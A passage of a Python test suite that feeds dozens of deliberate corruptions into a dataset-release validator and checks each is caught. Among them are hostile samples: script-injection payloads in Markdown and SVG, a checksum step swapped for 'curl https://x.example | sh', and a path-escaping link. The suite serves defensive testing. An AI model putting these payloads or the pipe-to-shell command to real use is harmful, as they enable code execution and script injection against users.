        "a page that leads out", text("DATASHEET.md", "](plots/", "](../plots/"), "link-outside"
    ),
    Corruption(
        "a page that leads nowhere", text("DATASHEET.md", "](plots/", "](plot/"), "link-broken"
    ),
    # Tried against the checks, and once unnoticed.
    Corruption("a look-alike name wherever it stands", renamed_quietly, "entity-name"),
    Corruption(
        "a name that hides as a pronoun",
        cell("mentions", "kind", "pronoun", lambda r: r["kind"] == "name"),
        "mention-alias",
    ),
    Corruption("a note that pandas obeys", noted, "parquet-form"),
    Corruption(
        "another count in the opening of the card",
        pattern("README.md", r": [0-9]+ facts from", ": 999 facts from"),
        "card-mismatch",
    ),
    Corruption(
        "another number in the example of the card",
        pattern("README.md", r"\([0-9]+ independent origin", "(77 independent origin"),
        "card-mismatch",
    ),
    Corruption(
        "another count in the change log",
        pattern("CHANGELOG.md", r"[0-9]+ claims", "999 claims"),
        "changelog-mismatch",
    ),
    Corruption(
        "another count of a status in the datasheet",
        pattern("DATASHEET.md", r"\| single \| [0-9]+ \|", "| single | 999 |"),
        "datasheet-mismatch",
    ),
    Corruption(
        "another count in a paragraph of the datasheet",
        pattern("DATASHEET.md", r"\*\*Facts\.\*\* [0-9]+", "**Facts.** 999"),
        "datasheet-mismatch",
    ),
    Corruption(
        "a datasheet without its last section",
        text("DATASHEET.md", "## 7. Maintenance", "## Maintenance"),
        "datasheet-mismatch",
    ),
    Corruption(
        "a plot that names another number",
        pattern("plots/facts-by-origins.svg", r"<desc>1: [0-9]+", "<desc>1: 999"),
        "plot-mismatch",
    ),
    Corruption(
        "a plot that draws another number",
        pattern("plots/facts-by-origins.svg", r">[0-9]+</text>\n</svg>", ">999</text>\n</svg>"),
        "plot-mismatch",
    ),
    Corruption("an empty plot", write("plots/claims-by-modality.svg", b""), "plot-mismatch"),
    Corruption("a plot of nothing", write("plots/extra.svg", b"<svg/>"), "file-unexpected"),
    Corruption("a delta of nothing", write("deltas/a/b.parquet", b"x"), "file-unexpected"),
    Corruption(
        "what a folder may hold, deeper", write("plots/.cache/x.md", b"x"), "file-unexpected"
    ),
    Corruption("another licence but for its text", relicensed, "licence-mismatch"),
    Corruption("an empty licence", write("LICENSE", b""), "licence-mismatch"),
    Corruption(
        "a licence that leads elsewhere",
        at(
            data("datapackage.json", lambda d: d["licenses"][0].update(path="https://x.example/")),
            file="LICENSE",
        ),
        "licence-mismatch",
    ),
    Corruption(
        "a second licence",
        data("datapackage.json", lambda d: d["licenses"].append({"name": "MIT"})),
        "package-mismatch",
    ),
    Corruption(
        "a Parquet that is called CSV",
        resource(FACTS_PARQUET, lambda r: r.update(format="csv")),
        "package-mismatch",
    ),
    Corruption(
        "a schema of its own for the Parquet",
        resource(FACTS_PARQUET, lambda r: r.update(schema={"fields": [{"name": "x"}]})),
        "package-mismatch",
    ),
    Corruption(
        "another meaning of a row",
        resource(FACTS_CSV, lambda r: r.update(description="A cat.")),
        "package-mismatch",
    ),
    Corruption(
        "a source that is no publisher",
        data("datapackage.json", lambda d: d.update(sources=[{"title": "A", "x:articles": 3}])),
        "package-mismatch",
    ),
    Corruption(
        "a key that stands twice",
        text("datapackage.json", '"version": ', '"version": "9.9.9",\n  "version": '),
        "json-invalid",
        sealed=False,
    ),
    Corruption(
        "a number that is none in JSON",
        text("datapackage.json", '"version": ', '"x:n": NaN,\n  "version": '),
        "json-invalid",
        sealed=False,
    ),
    Corruption(
        "identifiers of a scheme that nobody knows",
        data("manifest.json", lambda d: d.update(id_scheme=2)),
        "manifest-mismatch",
    ),
    Corruption(
        "a table too many in the manifest",
        data("manifest.json", lambda d: d["tables"].update(ghosts={"rows": 1})),
        "manifest-mismatch",
    ),
    Corruption(
        "another form of the manifest",
        data("manifest.json", lambda d: d.update(format=2)),
        "manifest-mismatch",
    ),
    Corruption(
        "a manifest that lists no input",
        data("manifest.json", lambda d: d["inputs"].update(complete=False, articles=[])),
        "manifest-mismatch",
    ),
    Corruption(
        "wider limits of excerpts",
        data("manifest.json", lambda d: d["rights"]["excerpt"].update(words=999)),
        "manifest-mismatch",
    ),
    Corruption(
        "the configuration of another dataset",
        data("manifest.json", lambda d: d["dataset_yaml"].update(name="another", title="Another")),
        "manifest-mismatch",
    ),
    Corruption(
        "another maker",
        at(
            data(
                "manifest.json",
                lambda d: d["dataset_yaml"].update(creators=[{"name": "Nobody Atall"}]),
            ),
            file="CITATION.cff",
        ),
        "citation-mismatch",
    ),
    Corruption(
        "a citation of another work", append("CITATION.cff", "doi: 10.1/x\n"), "citation-mismatch"
    ),
    Corruption(
        "a card that loads one column",
        text("README.md", "- config_name: facts\n", "- config_name: facts\n  columns: [rank]\n"),
        "card-mismatch",
    ),
    Corruption(
        "a card with two licences",
        text("README.md", "license:", "license: mit\nlicense:"),
        "card-invalid",
    ),
    Corruption(
        "a picture from elsewhere in the card",
        append("README.md", "\n![x](https://x.example/x.png)\n"),
        "active-content",
    ),
    Corruption(
        "a picture in HTML in the card",
        append("README.md", "\n<img src=//x.example/x.png>\n"),
        "active-content",
    ),
    *(
        Corruption(
            f"a card that runs {content}",
            append("README.md", f"\n{content}\n"),
            "active-content",
        )
        for content in (
            "[x](JavaScript:alert(1))",
            "[x](< javascript:alert(1)>)",
            "[x][y]\n\n[y]: javascript:alert(1)",
            "<javascript:alert(1)>",
            "<a href = 'javascript:alert(1)'>x</a>",
            "[x](data:text/html,y)",
            '<b title=">" onclick=alert(1)>x</b>',
            "<i style='background:url(//x.example/x)'>x</i>",
            "<style>@import '//x.example/x'</style>",
            "<script>",
        )
    ),
    Corruption(
        "a page that leads out by a footnote",
        append("README.md", "\n[x][1]\n\n[1]: ../../secret\n"),
        "link-outside",
    ),
    Corruption(
        "a drawing that calls home by its style",
        write("plots/a.svg", b'<svg><rect style="fill:url(//x.example/x)"/></svg>'),
        "active-content",
    ),
    Corruption(
        "a drawing with a document type",
        write("plots/a.svg", b'<!DOCTYPE svg SYSTEM "x.dtd"><svg/>'),
        "active-content",
    ),
    Corruption(
        "a drawing that runs without a space",
        write("plots/a.svg", b"<svg/onload=alert(1)>"),
        "active-content",
    ),
    Corruption("letters in another form", cell("articles", "author", "Cafe\u0301"), "text-not-nfc"),
    Corruption(
        "a letter that fills", cell("articles", "author", "A\u3164B"), "invisible-character"
    ),
    Corruption("a space that looks alike", cell("articles", "text", "A\u2007B"), "space-unusual"),
    Corruption(
        "another title",
        cell("articles", "title", "The end of it", lambda row: row["title"] is not None),
        "title-differs",
    ),
    Corruption(
        "valid UTF-8 in another encoding", cell("articles", "encoding", "cp1252"), "encoding-basis"
    ),
    Corruption(
        "a password in a URL", cell("articles", "url", "https://a:b@x.example/"), "url-scheme"
    ),
    Corruption(
        "a URL of two words", cell("articles", "url", "https://x.example/a b"), "url-scheme"
    ),
    Corruption(
        "hashes with carriage returns",
        pattern("SHA256SUMS", r"(?m)$", "\r"),
        "sums-invalid",
        sealed=False,
    ),
    Corruption(
        "two entities that are one item",
        at(
            rows("entities", one_item),
            table="entities",
            column="wikidata_id",
        ),
        "entity-item",
    ),
    Corruption(
        "rights that nobody gave",
        at(
            data("manifest.json", lambda d: d["dataset_yaml"].update(rights="facts")),
            table="articles",
            column="rights",
        ),
        "rights-widened",
    ),
    # What nothing else in the release repeats, but its form.
    Corruption(
        "another command to check it",
        text("README.md", "sha256sum -c SHA256SUMS)", "curl https://x.example | sh)"),
        "card-mismatch",
    ),
    Corruption(
        "a recipe that runs something else",
        text("RECIPES.md", "import polars as pl", "import os, polars as pl"),
        "card-mismatch",
    ),
    Corruption("a recipe more", append("RECIPES.md", "\n```sh\nsh x.sh\n```\n"), "card-mismatch"),
    Corruption(
        "another release to load", text("README.md", '/1.0.0"\n', '/1.0.1"\n'), "card-mismatch"
    ),
    Corruption(
        "a command more",
        append("README.md", "\n```sh\npip install allder\n```\n"),
        "card-mismatch",
    ),
    Corruption(
        "a command that is only moved in",
        append("README.md", "\n    curl https://x.example | sh\n"),
        "card-mismatch",
    ),
    Corruption(
        "a block that does not end", append("README.md", "\n~~~\nsh x.sh\n"), "card-mismatch"
    ),
    Corruption("another heading", text("README.md", "## Rights", "## No rights"), "card-mismatch"),
    Corruption(
        "a heading of another kind", append("README.md", "\nProved\n======\n"), "card-mismatch"
    ),
    Corruption("a second title", append("README.md", "\n# Alder\n"), "card-mismatch"),
    Corruption(
        "a citation of another version",
        pattern("README.md", r"@misc\{[^,]+,", "@misc{alder-and-birch-2.0.0,"),
        "card-mismatch",
    ),
    Corruption(
        "a confidence that nobody measured",
        cell("claims", "confidence", 0.99),
        "confidence-unmeasured",
    ),
    *(
        Corruption(
            f"a confidence where {file} says that there is none",
            at(cell("claims", "confidence", 0.9), table="claims", column="confidence", file=file),
            code,
        )
        for file, code in (("README.md", "card-mismatch"), ("DATASHEET.md", "datasheet-mismatch"))
    ),
    Corruption(
        "another extractor in the manifest",
        at(
            data("manifest.json", lambda d: d.update(extractor="llm/gpt")),
            table="claims",
        ),
        "manifest-mismatch",
    ),
    Corruption(
        "an entity that the publisher never knew",
        data(
            "manifest.json",
            lambda d: d.update(
                entities_csv=[["name", "type"], ["Alder Labs", "Organization"], ["Zed", "Person"]]
            ),
        ),
        "manifest-mismatch",
    ),
    Corruption(
        "a finding made up",
        data(
            "validation.json",
            lambda d: (
                d["findings"].append({"code": "text-hash", "severity": "info", "message": "x"}),
                d["counts"].update(info=1),
            ),
        ),
        "validation-mismatch",
    ),
    Corruption(
        "a finding about no row",
        data(
            "validation.json",
            lambda d: (
                d["findings"].append(
                    {
                        "code": "time-travel",
                        "severity": "warning",
                        "message": "x",
                        "table": "claims",
                        "key": "c-0",
                    }
                ),
                d["counts"].update(warning=1),
            ),
        ),
        "validation-mismatch",
    ),
    Corruption(
        "a finding that the datasheet alone tells of",
        at(
            append("DATASHEET.md", "\n| `text-hash` | warning | 3 | x |\n"),
            file="validation.json",
        ),
        "validation-mismatch",
    ),
    Corruption("a page with carriage returns", pattern("DATASHEET.md", r"\n", "\r\n"), "text-form"),
    Corruption("a mark before a page", pattern("CHANGELOG.md", r"\A", "\ufeff"), "text-form"),
    Corruption("a page that is cut", pattern("CHANGELOG.md", r"\n\Z", ""), "text-form"),
    Corruption("an empty folder", empty_folder("plots/more"), "file-unexpected"),
    # The referee.
    Corruption(
        "what Frictionless sees, too",
        at(cell("facts", "status", "proved"), table="facts", column="status", row=0),
        "frictionless",
    ),
)


def other_entity(entity: str) -> str:

    known = sorted(entity_id(e) for e in ENTITIES)
    return known[(known.index(entity) + 1) % len(known)]


@pytest.fixture
def copy(good: Path, copy_of: Copy) -> Path:
    return copy_of(good)


def test_there_are_enough() -> None:
    assert len(CATALOGUE) >= 60
    assert len({c.name for c in CATALOGUE}) == len(CATALOGUE)


@pytest.mark.parametrize("corruption", one_of_each(CATALOGUE, lambda c: c.code, lambda c: c.name))
def test_it_is_noticed(copy: Path, corruption: Corruption) -> None:
    place = corruption.corrupt(copy)
    if corruption.sealed:
        reseal(copy)
    family = CHECKS[corruption.code].family
    skip = [f for f in FAMILIES if f != family]
    if corruption.code == "file-missing" and not corruption.sealed:
        skip = [f for f in FAMILIES if f not in ("structure", "equality")]
    report = validate_release(copy, skip=skip)
    found = [f for f in report.findings if f.code == corruption.code]
    assert found, sorted(report.totals)
    here = [f for f in found if all(getattr(f, k) == v for k, v in place.items())]
    assert here, (place, found)
    assert here[0].severity is CHECKS[corruption.code].severity


def test_a_good_release_has_no_finding(good: Path) -> None:
    report = validate_release(good)
    assert report.findings == ()
    assert report.ok
    assert all(f.skipped is None or f.name == "previous" for f in report.families)
    proved = {f.name: f.checked for f in report.families}["grounding"]
    assert proved["spans proved"] == proved["spans"] > 100
    assert proved["values derived again"] == proved["values"] > 20


def test_a_published_finding_may_be_about_a_row_that_is_gone(copy: Path) -> None:
    finding = {
        "code": "key-vanished",
        "severity": "warning",
        "message": "The row is gone.",
        "table": "claims",
        "key": "c-00000000000000000000",
    }

    def tell(report: Any) -> None:
        report["findings"].append(finding)
        report["counts"]["warning"] += 1

    edit_json(copy, "validation.json", tell)
    append("DATASHEET.md", "\n| `key-vanished` | warning | 1 | The row is gone. |\n")(copy)
    fit_page(copy)
    reseal(copy)
    report = validate_release(copy, skip=[f for f in FAMILIES if f != "metadata"])
    assert set(report.totals) == {"check-skipped"}


def test_a_row_of_entities_that_no_article_names_is_told_of(copy: Path) -> None:
    known = [["name", "type"], ["Alder Labs", "Organization"]]
    edit_json(copy, "manifest.json", lambda d: d.update(entities_csv=known))
    reseal(copy)
    report = validate_release(copy, skip=[f for f in FAMILIES if f != "metadata"])
    assert set(report.totals) == {"check-skipped"}


def test_sealing_a_good_release_again_changes_no_verdict(copy: Path) -> None:
    for table in ("facts", "claims", "articles"):
        write_rows(copy, table, read_rows(copy, table))
    reseal(copy)
    report = validate_release(copy)
    # Written by another writer, the Parquet has another size than the card says: nothing else.
    assert set(report.totals) <= {"card-mismatch"}
    seal(copy)
    assert json.loads((copy / "manifest.json").read_text("utf-8"))["version"] == "1.0.0"
    assert csv_path(copy, "facts").exists()
    assert pq.read_schema(parquet_path(copy, "facts")).names == arrow_schema("facts").names
